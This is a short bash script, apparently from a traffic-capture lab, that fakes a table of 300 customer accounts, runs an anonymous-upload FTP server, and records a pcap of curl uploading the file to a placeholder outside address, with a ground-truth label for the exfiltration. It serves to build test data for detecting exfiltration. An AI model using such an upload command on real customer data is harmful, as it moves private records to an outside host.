#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# make.sh - record an anonymous upload of a gzip'd table to vsftpd.
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=/dev/null
. "$here/../make/lab.sh"

table csv accounts 300 | gzip -n >"$LAB/customers.csv.gz"
lab_up
mkdir -p "$LAB/ftp/in" "$LAB/empty"
chmod 755 "$LAB" && chmod 555 "$LAB/ftp" && chown ftp "$LAB/ftp/in"
cat >"$LAB/vsftpd.conf" <<CONF
listen=YES
background=NO
anonymous_enable=YES
local_enable=NO
write_enable=YES
anon_upload_enable=YES
anon_root=$LAB/ftp
secure_chroot_dir=$LAB/empty
seccomp_sandbox=NO
isolate_network=NO
CONF
lab_serve out_ 21 /usr/sbin/vsftpd "$LAB/vsftpd.conf"
lab_record "$here/capture.pcap"
in_ curl -sS -T "$LAB/customers.csv.gz" ftp://203.0.113.9/in/customers.csv.gz
lab_stop
table truth accounts 300 channel=ftp party=203.0.113.9 \
    >"$here/truth.json"
